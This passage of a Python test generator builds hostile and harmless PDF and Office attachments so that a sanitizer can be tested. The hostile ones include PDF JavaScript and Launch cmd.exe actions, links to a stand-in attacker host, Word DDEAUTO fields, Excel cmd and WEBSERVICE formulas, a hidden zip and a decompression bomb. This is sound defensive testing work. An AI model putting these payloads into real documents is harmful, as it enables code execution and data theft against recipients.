"""Attachments that run, fetch, hide or hurt, and honest ones of the same make: PDF, Office, tables, calendars.

A hazard is put where a program would find it, and hidden in the ways that a program forgives; what is honest has the
same shape without the hazard. What an attachment says is tried by a citizen's number in each place where words stand.
"""

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from functools import cache
from random import Random

from files_of import DOCX_MAIN, OFFICE, RELATIONS, docx, odt, xlsx

from .case import EVIL, Case, Make, Outcome, made_article

CITIZEN = "034085012347"  # has the grammar of a citizen's number
HARMLESS_NUMBER = "1102/KH-UBND"


def _case(family: str, number: int, label: str, outcome: Outcome, suffix: str, raw: bytes) -> Case:
    name = f"files/h-{number}.{suffix}"
    case = made_article(family, number, f"{label} .{suffix}", outcome, f"Xem [văn bản]({name}).")
    return case._replace(files={name: raw})


# PDF


def made_pdf(
    catalog: str = "",
    page: str = "",
    extras: Sequence[str | bytes] = (),
    *,
    info: str = "",
    text: str = "Thi dua yeu nuoc",
    version: str = "1.7",
    layout: str = "plain",
    trailer: str = "",
) -> bytes:
    """Return a PDF of one page; {a}, {b}… in its parts stand for the numbers of the extra objects."""
    numbers = {chr(97 + at): str(7 + at) for at in range(len(extras))}

    def filled(part: str | bytes) -> bytes:
        if isinstance(part, bytes):
            return part
        for letter, number in numbers.items():
            part = part.replace(f"{{{letter}}}", number)
        return part.encode("latin-1")

    content = zlib.compress(f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode("latin-1"))
    objects = {
        1: filled(f"<< /Type /Catalog /Pages 2 0 R {catalog} >>"),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: filled(
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            f"/Resources << /Font << /F1 5 0 R >> >> {page} >>"
        ),
        4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: filled(f"<< /Producer (Portal) {info} >>"),
    }
    late = {7 + at: filled(part) for at, part in enumerate(extras)}
    out = bytearray(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    if layout == "packed":
        return _packed(out, objects | late, trailer)
    last = _write(out, objects if layout == "update" else objects | late, 0, trailer)
    if layout == "update" and late:
        _write(out, late, last, trailer)
    return bytes(out)


def _write(out: bytearray, objects: Mapping[int, bytes], before: int, trailer: str) -> int:
    """Write objects and their table; return where the table stands."""
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    link = f"/Prev {before} " if before else ""
    size = max(places) + 1
    out += f"trailer\n<< /Size {size} /Root 1 0 R /Info 6 0 R {link}{trailer} >>\nstartxref\n{table}\n%%EOF\n".encode()
    return table


def _packed(out: bytearray, objects: Mapping[int, bytes], trailer: str) -> bytes:
    """Write all objects but streams into one packed stream, as newer programs do."""
    rows: dict[int, tuple[int, int, int]] = {}
    inside = {number: body for number, body in objects.items() if b"stream" not in body}
    for number, body in objects.items():
        if number not in inside:
            rows[number] = (1, len(out), 0)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table, bodies = "", b""
    holder = max(objects) + 1
    for index, (number, body) in enumerate(inside.items()):
        table += f"{number} {len(bodies)} "
        bodies += body + b"\n"
        rows[number] = (2, holder, index)
    data = zlib.compress(table.encode() + bodies)
    rows[holder] = (1, len(out), 0)
    head = f"<< /Type /ObjStm /N {len(inside)} /First {len(table)} /Filter /FlateDecode /Length {len(data)} >>"
    out += f"{holder} 0 obj\n{head}\nstream\n".encode() + data + b"\nendstream\nendobj\n"
    start = len(out)
    rows[holder + 1] = (1, start, 0)
    cells = b"\0\0\0\0\0\xff\xff" + b"".join(
        bytes([rows[number][0]]) + rows[number][1].to_bytes(4, "big") + rows[number][2].to_bytes(2, "big")
        if number in rows else b"\0\0\0\0\0\0\0"
        for number in range(1, holder + 2)
    )  # fmt: skip
    data = zlib.compress(cells)
    head = f"<< /Type /XRef /Size {holder + 2} /W [1 4 2] /Root 1 0 R /Info 6 0 R /Filter /FlateDecode /Length {len(data)} {trailer} >>"
    out += f"{holder + 1} 0 obj\n{head}\nstream\n".encode() + data + b"\nendstream\nendobj\n"
    return bytes(out) + f"startxref\n{start}\n%%EOF\n".encode()


# What acts: label, catalog, page, extra objects.
_ANNOT = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A {} >>]"
_WIDGET = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho ten) /Rect [0 0 99 20] {} >>"
_ACTS = (
    "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", "<< /S /JavaScript /JS {a} 0 R >>", "<< /S /Launch /F (cmd.exe) >>",
    "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", f"<< /S /SubmitForm /F << /FS /URL /F (https://{EVIL}/) >> >>",
    f"<< /S /ImportData /F (\\\\\\\\{EVIL}\\\\a.fdf) >>", f"<< /S /GoToR /F (\\\\\\\\{EVIL}\\\\a.pdf) /D [0 /Fit] >>",
    "<< /S /GoToE /T << /R /C /N (a.pdf) >> /D [0 /Fit] >>", "<< /S /Rendition /OP 0 /R << /S /MR >> >>",
    "<< /S /Movie /T (a) >>", "<< /S /Sound /Sound {a} 0 R >>", "<< /S /RichMediaExecute /TA {a} 0 R >>",
    "<< /S /GoTo3DView /V /F >>", f"<< /S /Thread /F (\\\\\\\\{EVIL}\\\\a.pdf) /D 0 >>",
    "<< /S /URI /URI (javascript:alert\\(1\\)) >>", "<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>",
    "<< /S /URI /URI <6A6176617363726970743A61> >>", "<< /S /URI /URI <feff006A006100760061007300630072006900700074003a> >>",
    "<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>", f"<< /S /URI /URI (\\\\\\\\{EVIL}\\\\a) >>",
    "<< /S /URI /URI (vbscript:a) >>", "<< /S /URI /URI (data:text/html,<script>a</script>) >>", "<< /S /URI /URI (ms-msdt:/id a) >>",
    "<< /S /URI /URI (\\152avascript:a) >>", "<< /S /URI /URI (search-ms:query=a) >>", "<< /S /URI /URI (smb://a/b) >>",
    "<< /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (a) >> >>",
)  # fmt: skip
# What only acts wrongly where nobody asks for it.
_ACTS_AT_ONCE = (
    f"<< /S /URI /URI (https://{EVIL}/) >>", f"<< /Type /Action /Dummy [1 2 3 4 5 6 7 8 9 10 11 12 13] /S /URI /URI (http://{EVIL}/) >>",
    f"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://{EVIL}) >> >>", "<< /S /Named /N /Print >>", "<< /S /Named /N /SaveAs >>",
)  # fmt: skip
_HOLDS = (  # catalog, page, extras
    ("/Names << /EmbeddedFiles << /Names [(a.exe) {a} 0 R] >> >>", "", ("<< /Type /Filespec /F (a.exe) /EF << /F {b} 0 R >> >>", "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream")),
    ("/AF [{a} 0 R]", "", ("<< /Type /Filespec /F (hoa-don.xml) /EF << /F {b} 0 R >> /AFRelationship /Data >>", "<< /Type /EmbeddedFile /Subtype /text#2Fxml /Length 1 >>\nstream\nx\nendstream")),
    ("/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) {a} 0 R] >> >>", "", ("<< /F (a) >>",)),
    ("", "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS {a} 0 R >>]", ("<< /F (a) >>",)),
    ("/AcroForm << /Fields [] /XFA {a} 0 R >>", "", ("<< /Length 5 >>\nstream\n<xdp>\nendstream",)),
    ("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]", ()),
    ("", "/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD {a} 0 R >>]", ("<< /Type /3D /Subtype /U3D /Length 1 >>\nstream\nx\nendstream",)),
    ("", "/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]", ()),
    ("", "/Annots [<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound {a} 0 R >>]", ("<< /R 8000 /Length 1 >>\nstream\nx\nendstream",)),
    ("/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (a) >>] >> >>", "", ()),
    ("/URI << /Base (javascript:a) >>", "", ()),
    ("", "", (f"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (\\\\\\\\{EVIL}\\\\a) /Length 0 >>\nstream\n\nendstream",)),
    ("", "", (f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\{EVIL}\\\\a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream",)),
)  # fmt: skip
_NAMES = (
    "JavaScript", "JS", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie", "Sound", "RichMediaExecute",
    "OpenAction", "AA", "URI", "EmbeddedFiles", "EmbeddedFile", "XFA", "RichMedia", "FileAttachment", "Named", "Next",
)  # fmt: skip


def _spelt(random: Random, text: str) -> str:
    """Return the text with some of its names in the other spelling that PDF knows."""
    for name in _NAMES:
        if random.random() < 0.3:
            at = random.randrange(len(name))
            some = {at} if random.random() < 0.7 else set(range(len(name)))
            other = "".join(
                f"#{ord(sign):02{random.choice('xX')}}" if one in some else sign for one, sign in enumerate(name)
            )
            text = text.replace(f"/{name} ", f"/{other} ")
    return text


def _placed(random: Random, act: str, *, at_once: bool) -> tuple[str, str, list[str]]:
    """Return catalog, page and extra objects with an action in one of the places where readers look for one."""
    target = "<< /Length 1 >>\nstream\nx\nendstream"
    extras = [target]
    if random.random() < 0.5:  # behind one or two references
        extras += [act]
        act = "{b} 0 R"
        if random.random() < 0.3:
            extras += ["<< /S /GoTo /D [3 0 R /Fit] /Next {b} 0 R >>"]
            act = "{c} 0 R"
    places = (
        ["open", "page", "page far", "field"] if at_once else ["open", "page", "field", "link", "orphan", "bookmark"]
    )
    match random.choice(places):
        case "open":
            return f"/OpenAction {act}", "", extras
        case "page":
            return "", f"/AA << /{random.choice('OC')} {act} >>", extras
        case "page far":
            far = chr(97 + len(extras))
            return "", f"/AA {{{far}}} 0 R", [*extras, f"<< /C {act} >>"]
        case "field":
            far = chr(97 + len(extras))
            trigger = random.choice(("E", "X", "D", "Fo", "PO", "PV", "K", "F", "V", "C"))
            return (
                f"/AcroForm << /Fields [{{{far}}} 0 R] >>",
                f"/Annots [{{{far}}} 0 R]",
                [*extras, _WIDGET.format(f"/AA << /{trigger} {act} >>")],
            )
        case "link":
            return "", _ANNOT.format(act), extras
        case "bookmark":
            far, farther = chr(97 + len(extras)), chr(98 + len(extras))
            return (
                f"/Outlines {{{far}}} 0 R",
                "",
                [
                    *extras,
                    f"<< /Type /Outlines /First {{{farther}}} 0 R /Last {{{farther}}} 0 R /Count 1 >>",
                    f"<< /Title (Muc) /Parent {{{far}}} 0 R /A {act} >>",
                ],
            )
    return "", "", [*extras, act if act.startswith("<<") else "null"]


_HONEST = (  # label, catalog, page, extras, info
    ("opens at a page", "/OpenAction [3 0 R /XYZ null null 0]", "", (), ""),
    ("opens at a page by an action", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "", (), ""),
    ("opens at a page with a link on it", "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", _ANNOT.format("<< /S /URI /URI (https://a.example/) >>"), (), ""),
    ("opens at a named place", "/OpenAction (trang-1) /Names << /Dests << /Names [(trang-1) [3 0 R /Fit]] >> >>", "", (), ""),
    ("turns to the first page", "/OpenAction << /S /Named /N /FirstPage >>", "", (), ""),
    ("a link", "", _ANNOT.format("<< /S /URI /URI (https://a.example/?a=1\\(2\\)) >>"), (), ""),
    ("a link to a letter", "", _ANNOT.format("<< /S /URI /URI (mailto:vanphong@so.example) >>"), (), ""),
    ("a link without scheme", "", _ANNOT.format("<< /S /URI /URI (www.so.example:8080/a) >>"), (), ""),
    ("a link in upper case", "", _ANNOT.format("<< /S /URI /URI (HTTPS://A.EXAMPLE/) >>"), (), ""),
    ("a link to a page", "", _ANNOT.format("<< /S /GoTo /D [3 0 R /Fit] >>"), (), ""),
    ("a button that prints", "", _ANNOT.format("<< /S /Named /N /Print >>"), (), ""),
    ("a button that empties the form", "", _ANNOT.format("<< /S /ResetForm >>"), (), ""),
    ("a form to fill in", "/AcroForm << /Fields [{a} 0 R] /NeedAppearances true >>", "/Annots [{a} 0 R]", (_WIDGET.format("/V (Nguyen Van A)"),), ""),
    ("signed by the office", "/AcroForm << /SigFlags 3 /Fields [{a} 0 R] >> /Perms << /DocMDP {b} 0 R >>", "/Annots [{a} 0 R]",
     ("<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 9 9] /V {b} 0 R /Lock << /Action /All >> >>",
      "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 20 30] /Contents <" + "3082" * 400 + "> /Reason (Ky so) /M (D:20240101) /Reference [<< /TransformMethod /DocMDP /TransformParams << /P 2 /V /1.2 >> >>] /Prop_Build << /App << /Name /Vgca >> >> >>"), ""),
    ("bookmarks", "/Outlines {a} 0 R /PageMode /UseOutlines", "", ("<< /First {b} 0 R /Last {b} 0 R /Count 1 >>", "<< /Title (Phan I: JavaScript) /Parent {a} 0 R /Dest [3 0 R /Fit] >>"), ""),
    ("tells of JavaScript", "", "", (), "/Title (Tap huan JavaScript: /JS /Launch va /OpenAction) /Subject (obj /JS)"),
    ("layers", "/OCProperties << /OCGs [{a} 0 R] /D << /Order [{a} 0 R] /AS [] >> >>", "", ("<< /Type /OCG /Name (Lop) >>",), ""),
    ("tagged", "/MarkInfo << /Marked true >> /StructTreeRoot {a} 0 R /Lang (vi-VN)", "", ("<< /Type /StructTreeRoot /K {b} 0 R >>", "<< /Type /StructElem /S /P /P {a} 0 R /Alt (Anh) /Pg 3 0 R >>"), ""),
    ("shown in full", "/ViewerPreferences << /DisplayDocTitle true >> /PageLayout /OneColumn", "/Trans << /S /Dissolve >>", (), ""),
    ("a note", "", "/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (Xem lai: /JS obj) >>]", (), ""),
    ("a screen of colours", "", "", ("<< /Type /ExtGState /BM /Screen >>",), ""),
    ("articles of a magazine", "/Threads [{a} 0 R]", "", ("<< /Type /Thread /I << /Title (Bai) >> >>",), ""),
    ("of itself", "/Metadata {a} 0 R", "", ("<< /Type /Metadata /Subtype /XML /Length 44 >>\nstream\n<x:xmpmeta><dc:title>Bai</dc:title></x:xmpmeta>\nendstream",), "/Author (Van phong) /Creator (Microsoft Word) /Keywords (a)"),
)  # fmt: skip


def pdfs(random: Random, number: int) -> Case:
    """PDFs that act, hold, are cut or lie, and honest ones."""
    layout = random.choice(("plain", "plain", "packed", "update"))
    version = random.choice(("1.4", "1.5", "1.6", "1.7", "2.0"))
    kind = random.choice(
        (
            "act",
            "act",
            "act",
            "at once",
            "holds",
            "holds",
            "honest",
            "honest",
            "honest",
            "made",
            "trick",
            "trick",
            "says",
        )
    )
    match kind:
        case "act" | "at once":
            act = random.choice(_ACTS_AT_ONCE if kind == "at once" else _ACTS)
            catalog, page, extras = _placed(random, act, at_once=kind == "at once")
            made = [_spelt(random, part) for part in (catalog, page, *extras)]
            raw = made_pdf(made[0], made[1], made[2:], layout=layout, version=version)
            return _case("pdf", number, f"{kind} {layout} {made}", "refused", "pdf", raw)
        case "holds":
            catalog, page, some = random.choice(_HOLDS)
            made = [_spelt(random, part) for part in (catalog, page, *some)]
            raw = made_pdf(made[0], made[1], made[2:], layout=layout, version=version)
            return _case("pdf", number, f"{kind} {layout} {made}", "refused", "pdf", raw)
        case "honest":
            label, catalog, page, some, info = random.choice(_HONEST)
            raw = made_pdf(catalog, page, some, info=info, layout=layout, version=version)
            return _case(
                "pdf",
                number,
                f"{label} {layout}",
                "clean",
                "pdf",
                raw + random.choice((b"", b"\r\n", b"\0\0", b"\n\n")),
            )
        case "made":
            label, raw = random.choice(_really_made())
            return _case("pdf", number, label, "clean", "pdf", raw)
        case "says":
            return _pdf_that_says(random, number, layout)
    label, outcome, raw = _pdf_trick(random, layout)
    return _case("pdf", number, f"{label} {layout}", outcome, "pdf", raw)


def _pdf_trick(random: Random, layout: str) -> tuple[str, Outcome, bytes]:
    good = made_pdf(layout=layout)
    js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    with_js = made_pdf("/OpenAction {a} 0 R", extras=[js])
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("a.exe", b"MZ" + b"x" * random.randrange(9, 99))
    archive_bytes = zipped.getvalue()
    end = archive_bytes.rfind(b"PK\x05\x06")
    commented = archive_bytes[: end + 20] + b"\x07\0" + b"\n%%EOF\n"
    bomb = zlib.compress(b"1 0 " + b" " * 150_000_000, 9)
    table = "7 0 "
    inside = zlib.compress((table + js).encode())

    def stream(head: str, data: bytes, *more: str | bytes) -> bytes:
        return made_pdf(extras=[f"<< {head} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream", *more])

    tricks: dict[str, tuple[Outcome, bytes | Callable[[], bytes]]] = {
        "cut": ("refused", good[: random.randrange(9, len(good) - 40)]),
        "end of lines cut": ("refused", good[:-7]),
        "something before": ("refused", random.choice((b"\n", b"\xef\xbb\xbf", b"<html>", b"MZ", b"PK\x03\x04")) + good),
        "something behind": ("refused", good + random.choice((b"<script>", b"<?php ?>", b"x", archive_bytes, b"\x89PNG"))),
        "something behind with an end": ("refused", good + random.choice((b"<script>alert(1)</script>", b"<!doctype html><a>", b"<?php x ?>")) + b"\n%%EOF\n"),
        "an archive behind, with an end in its comment": ("refused", good + commented),
        "markup in the head": ("refused", good.replace(b"\n%", b"\n%<script>alert(1)</script>", 1)),
        "comment in an object's head": ("refused", with_js.replace(b"7 0 obj", random.choice((b"7 0 % a\nobj", b"7 % a\n0 % b\robj", b"7\n0%\nobj")))),
        "the word endobj in a dictionary": ("refused", made_pdf(extras=["<< /A endobj " + js[3:]])),
        "the word stream in a dictionary": ("refused", made_pdf(extras=["<< /A << >> stream " + js[3:]])),
        "string that never ends": ("refused", made_pdf(extras=["<< /A (khong dong", js])),
        "packed twice": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter [/FlateDecode /FlateDecode]", zlib.compress(inside))),
        "packed, its way elsewhere": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter {{b}} 0 R".replace("{b}", "8"), inside, "/FlateDecode")),
        "packed, its way in a row elsewhere": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter [8 0 R]", inside, "/FlateDecode")),
        "packed, two ways": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter /ASCIIHexDecode /Filter /FlateDecode", inside)),
        "packed, its first elsewhere": ("refused", stream("/Type /ObjStm /N 1 /First 8 0 R /Filter /FlateDecode", inside, "4")),
        "packed with a predictor elsewhere": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter /FlateDecode /DecodeParms 8 0 R", inside, "<< /Predictor 12 /Columns 9 >>")),
        "packed in letters": ("refused", stream(f"/Type /ObjStm /N 1 /First {len(table)} /Filter [/AHx /Fl]", inside.hex().encode() + b">")),
        "a packed bomb": ("refused", lambda: stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb)),
        "many objects at one place": ("refused", lambda: stream(f"/Type /ObjStm /N 40000 /First {40000 * 4} /Filter /FlateDecode", zlib.compress(b"1 0 " * 40000 + b"[" + b"/A 1 " * 200_000 + js.encode()))),
        "a password": ("refused", made_pdf(trailer=random.choice(("/Encrypt << /Filter /Standard /V 2 /R 3 /P -4 >>", "/#45ncrypt 9 0 R")))),
        "no page": ("refused", made_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     ")),
        "no table": ("clean", good.replace(b"startxref\n", b"startxref\n9")),
        "only junk": ("refused", b"%PDF-1.7\n" + random.randbytes(300) + b"\n%%EOF"),
        "pages in a ring": ("harmless", made_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
        "a page that is its own parent": ("harmless", made_pdf().replace(b"/Parent 2 0 R", b"/Parent 3 0 R")),
        "tables in a ring": ("harmless", made_pdf(trailer="/Prev 15")),
        "a page beyond measure": ("harmless", made_pdf().replace(b"[0 0 595 842]", random.choice((b"[0 0 9e9 9e9]", b"[0 0 0 0]", b"[0 0 -5 9]", b"[0 0 1 99999]")))),
        "a deep row": ("harmless", made_pdf(extras=["[" * 100_000 + "/JS" * 0 + "]" * 100_000])),
        "a deep dictionary": ("harmless", made_pdf("/A " + "<< /A " * 5000 + "1" + " >>" * 5000)),
        "brackets that never end": ("harmless", made_pdf(extras=["<< /Title " + "(" * 200_000])),
    }  # fmt: skip
    label = random.choice(list(tricks))
    outcome, raw = tricks[label]
    return label, outcome, raw() if callable(raw) else raw


def _pdf_that_says(random: Random, number: int, layout: str) -> Case:
    """A citizen's number in each place of a PDF where words stand."""
    told, outcome = random.choice(((CITIZEN, "refused"), (HARMLESS_NUMBER, "clean")))
    wide = "feff" + f"Số {told}".encode("utf-16-be").hex()
    xmp = f"<rdf:Description><dc:description><rdf:Alt><rdf:li>So {told}</rdf:li></rdf:Alt></dc:description></rdf:Description>"
    packed = zlib.compress(xmp.encode())
    places: dict[str, bytes] = {
        "page": made_pdf(text=f"So can cuoc {told}", layout=layout),
        "title": made_pdf(info=f"/Title (So {told})", layout=layout),
        "author in hexadecimal": made_pdf(info=f"/Author <{wide}>", layout=layout),
        "escaped": made_pdf(info="/Subject (" + "".join(f"\\{ord(sign):03o}" for sign in f"So {told}") + ")", layout=layout),
        "note": made_pdf(page=f"/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents <{wide}> >>]", layout=layout),
        "field": made_pdf("/AcroForm << /Fields [{a} 0 R] >>", "/Annots [{a} 0 R]", [_WIDGET.format(f"/V (So {told})")], layout=layout),
        "bookmark": made_pdf("/Outlines {a} 0 R", "", ["<< /First {b} 0 R /Last {b} 0 R /Count 1 >>", f"<< /Title (So {told}) /Parent {{a}} 0 R /Dest [3 0 R /Fit] >>"], layout=layout),
        "an older state": made_pdf("/OCG {a} 0 R", "", [f"<< /Contents (So {told}) >>"], layout="update"),
        "metadata": made_pdf("/Metadata {a} 0 R", "", [f"<< /Type /Metadata /Subtype /XML /Length {len(xmp)} >>\nstream\n{xmp}\nendstream"], layout=layout),
        "packed metadata": made_pdf("/Metadata {a} 0 R", "", [f"<< /Type /Metadata /Subtype /XML /Filter /FlateDecode /Length {len(packed)} >>\nstream\n".encode() + packed + b"\nendstream"], layout="plain"),
    }  # fmt: skip
    place = random.choice(list(places))
    return _case("pdf", number, f"says {told} in {place} {layout}", outcome, "pdf", places[place])


@cache
def _really_made() -> list[tuple[str, bytes]]:
    """Return PDFs by other programs: WeasyPrint in its variants, Pillow as a scanner without text."""
    from PIL import Image
    from weasyprint import HTML

    page = "<title>Kế hoạch</title><h1>Kế hoạch số 12/KH-SM</h1><p>Thi đua <a href='https://a.example/'>xem</a></p>"
    found = [
        (f"weasyprint {variant}", HTML(string=page).write_pdf(pdf_variant=variant, uncompressed_pdf=variant is None))
        for variant in (None, "pdf/a-2b", "pdf/ua-1")
    ]
    for form in ("RGB", "L", "1"):
        out = io.BytesIO()
        Image.new(form, (400, 600), 1).save(out, "PDF", resolution=200.0, title="Ban quet")
        found.append((f"a scan {form}", out.getvalue()))
    return found


# Office


@cache
def _base(kind: str) -> Mapping[str, bytes]:
    """Return the parts of a document as a real program writes it."""
    out = io.BytesIO()
    if kind == "docx":
        from docx import Document

        document = Document()
        document.add_heading("Kế hoạch tuyên truyền")
        document.add_paragraph("Thi đua yêu nước.")
        document.add_table(2, 2).cell(0, 0).text = "Đơn vị"
        document.save(out)
    elif kind == "xlsx":
        import xlsxwriter

        book = xlsxwriter.Workbook(out)
        sheet = book.add_worksheet("Số liệu")
        sheet.write_row(0, 0, ["Đơn vị", "Số lượng"])
        sheet.write_row(1, 0, ["Văn phòng", 12])
        sheet.write_formula("B3", "=SUM(B2:B2)")
        sheet.write_comment("A1", "ghi chú")
        sheet.data_validation("C1", {"validate": "list", "source": ["Có", "Không"]})
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Số liệu'!$B$2:$B$2"})
        sheet.insert_chart("D4", chart)
        book.close()
    else:
        out.write(odt("<text:p>Thi đua</text:p>", more={"meta.xml": _ODF_META.format("")}))
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


_ODF_META = '<office:document-meta xmlns:office="o" xmlns:meta="m" xmlns:dc="d" xmlns:xlink="x"><office:meta>{}</office:meta></office:document-meta>'


def zipped_parts(parts: Mapping[str, bytes], **options: int) -> bytes:
    """Return an archive of parts in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            way = zipfile.ZIP_STORED if name == "mimetype" else options.get("way", zipfile.ZIP_DEFLATED)
            archive.writestr(zipfile.ZipInfo(name), content, way)
    return out.getvalue()


def _with_relation(
    parts: Mapping[str, bytes], of: str, kind: str, target: str, mode: str = "External"
) -> dict[str, bytes]:
    folder, _, name = of.rpartition("/")
    path = f"{folder}/_rels/{name}.rels"
    told = f' TargetMode="{mode}"' if mode else ""
    kind = kind if "/" in kind else f"{OFFICE}/{kind}"
    row = f'<Relationship Id="rEvil" Type="{kind}" Target="{target}"{told}/>'.encode()
    old = parts.get(path, f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode())
    if old.rstrip().endswith(b"/>"):
        old = f'<Relationships xmlns="{RELATIONS}"></Relationships>'.encode()
    return {**parts, path: old.replace(b"</Relationships>", row + b"</Relationships>")}


def _with_typed(parts: Mapping[str, bytes], name: str, content: bytes, type_: str) -> dict[str, bytes]:
    types = parts["[Content_Types].xml"]
    row = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'.encode()
    return {**parts, "[Content_Types].xml": types.replace(b"</Types>", row), name: content}


def _in_body(parts: Mapping[str, bytes], xml: str) -> dict[str, bytes]:
    body = parts["word/document.xml"]
    at = body.index(b"<w:p>") if b"<w:p>" in body else body.index(b"<w:p ")
    return {**parts, "word/document.xml": body[:at] + xml.encode() + body[at:]}


def _in_sheet(parts: Mapping[str, bytes], formula: str) -> dict[str, bytes]:
    name = "xl/worksheets/sheet1.xml"
    escaped = formula.replace("&", "&amp;").replace("<", "&lt;")
    return {**parts, name: parts[name].replace(b"<f>SUM(B2:B2)</f>", f"<f>{escaped}</f>".encode())}


def _field_runs(random: Random, code: str) -> str:
    """Return a field whose code is cut into runs, sometimes with another field inside."""
    cuts = sorted(random.sample(range(1, len(code)), min(len(code) - 1, random.randrange(0, 5))))
    pieces = [code[start:end] for start, end in zip((0, *cuts), (*cuts, len(code)), strict=True)]
    inner = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    name = random.choice(("instrText", "instrText", "delInstrText"))
    runs = [f'<w:r><w:{name} xml:space="preserve">{piece.replace("&", "&amp;")}</w:{name}></w:r>' for piece in pieces]
    if random.random() < 0.3:
        runs.insert(random.randrange(len(runs) + 1), inner)
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(runs)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>chữ</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


_BAD_FIELDS = (
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k", "DDE excel a.xls r1c1", f'INCLUDEPICTURE "https://{EVIL}/a.png" \\d', f'INCLUDETEXT "https://{EVIL}/a"',
    ' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" a', ' DATABASE \\c "DSN=a" \\s "select"', f'IMPORT "http://{EVIL}/a"', 'RD "\\\\\\\\evil.example\\\\a.docx"',
    ' HYPERLINK "javascript:alert(1)"', ' HYPERLINK "file://evil.example/a.exe"', "MACROBUTTON AutoOpen Bấm", "ddeauto  a b",
)  # fmt: skip
_GOOD_FIELDS = (
    "PAGE \\* MERGEFORMAT", "NUMPAGES", 'TOC \\o "1-3" \\h \\z \\u', ' HYPERLINK "https://a.example/"', ' HYPERLINK \\l "_Toc1"', 'DATE \\@ "dd/MM/yyyy"', "REF _Ref1 \\h",
    "SEQ Bảng \\* ARABIC", "MERGEFIELD Họ_tên", " FORMTEXT ", "STYLEREF 1", "MACROBUTTON NoMacro [Bấm vào đây]", "ADDIN ZOTERO_ITEM CSL_CITATION {}", "EQ \\f(1;2)", "DOCPROPERTY DDEAUTO", "SYMBOL 254",
)  # fmt: skip
_BAD_FORMULAS = (
    "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", 'WEBSERVICE("https://evil.example/")', '_xlfn.WEBSERVICE("http://evil.example")', '_xlfn.IMAGE("https://evil.example/a.png")',
